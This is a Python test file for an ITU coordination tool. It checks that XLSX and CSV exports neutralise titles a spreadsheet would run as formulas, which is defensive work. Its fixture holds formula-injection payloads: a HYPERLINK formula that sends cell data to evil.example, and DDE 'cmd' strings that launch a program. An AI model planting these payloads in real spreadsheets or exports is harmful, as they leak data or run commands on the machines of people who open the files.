"""Issue 8, item 6, through the doors the campaign used: titles that a spreadsheet would run as
formulas are written as text in the XLSX exports (roadmap, mapping) and the CSV export, and the
CSV export loads back exactly."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.builders import activity, group, liaison, roadmap, subject

from intersector import cli, services
from intersector.coordination.embeddings import HashingEmbedder
from intersector.domain.cells import FORMULA_TRIGGERS
from intersector.files.registry import load_paths
from intersector.services.registry import REGISTRY_TYPES
from intersector.store import Store

HOSTILE = {
    "itu-r-rec-m.2160": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "itu-r-q229-5": "+cmd|' /C calc'!A0",
    "itu-t-rec-y.3101": "-2+3+cmd|' /C calc'!A0",
    "itu-d-q1-1": "@SUM(1+1)*cmd|' /C calc'!A0",
}
QUOTED = "'already quoted by its author"


@pytest.fixture
def hostile(store: Store, cli_database: str, monkeypatch: pytest.MonkeyPatch) -> Store:
    monkeypatch.setenv("INTERSECTOR_AUTHOR", "tester")
    monkeypatch.setattr(services, "analytics_embedder", HashingEmbedder)
    items = [
        subject("imt"),
        subject("broadband"),
        *(group(g) for g in ("itu-r-wp5d", "itu-t-sg13", "itu-d-sg1")),
        *(replace(activity(a), title=title) for a, title in HOSTILE.items()),
        roadmap("itu-r-imt", "itu-r-rec-m.2160", "itu-r-q229-5"),
        replace(liaison("itu-r-wp5d-ls-1"), title="=1+1"),
        replace(activity("itu-r-rec-m.2083"), title=QUOTED),
    ]
    store.save_many(items, author="test", reason="fixture")
    return store


def cell_texts(path: Path) -> list[str]:
    """Every text cell of every sheet; formulas (openpyxl type 'f') fail the test."""
    texts = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def test_roadmap_xlsx_holds_no_formula(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "imt.xlsx"
    args = ["roadmap", "imt", "--format", "xlsx", "--output", str(out), "--today", "2025-01-15"]
    assert cli.run(args) == 0
    texts = cell_texts(out)
    in_roadmap = ("itu-r-rec-m.2160", "itu-r-q229-5", "itu-t-rec-y.3101")
    for title in (*(HOSTILE[a] for a in in_roadmap), "=1+1"):
        assert "'" + title in texts
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]


def test_mapping_xlsx_holds_no_formula(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "m.xlsx"
    assert cli.run(["mapping", "itu-d:itu-r", "--format", "xlsx", "--output", str(out)]) == 0
    texts = cell_texts(out)
    assert "'" + HOSTILE["itu-d-q1-1"] in texts
    assert not [t for t in texts if t.startswith(FORMULA_TRIGGERS)]


def test_csv_export_is_quoted_and_loads_back_exactly(hostile: Store, tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    assert cli.run(["export", "--format", "csv", "--output", str(folder)]) == 0
    with (folder / "activities.csv").open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert "'" + HOSTILE["itu-r-rec-m.2160"] in cells and "'" + QUOTED in cells
    loaded = load_paths([folder])
    assert loaded.errors == []
    titles = {a.id: a.title for a in loaded.items if hasattr(a, "title") and a.id in HOSTILE}
    assert titles == HOSTILE
    stored = [i for name in REGISTRY_TYPES for i in hostile.list(name, include_withdrawn=True)]
    assert sorted(map(repr, loaded.items)) == sorted(map(repr, stored))


def test_overlaps_csv_holds_no_formula(hostile: Store, capsys: pytest.CaptureFixture[str]) -> None:
    """`overlaps --format csv` (the candidates' titles) as the other CSV: no cell starts a
    formula; scores, numbers that may be negative, stay numbers."""
    assert cli.run(["overlaps", "--format", "csv", "--min-score", "-1"]) == 0
    rows = list(csv.reader(capsys.readouterr().out.splitlines()))
    cells = [cell for row in rows[1:] for cell in row]
    assert rows[1:] and not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    titles = {c for row in rows[1:] for c in (row[6], row[10])}
    assert "'" + HOSTILE["itu-r-rec-m.2160"] in titles
    assert all(float(row[1]) == float(row[1].lstrip("'")) for row in rows[1:])
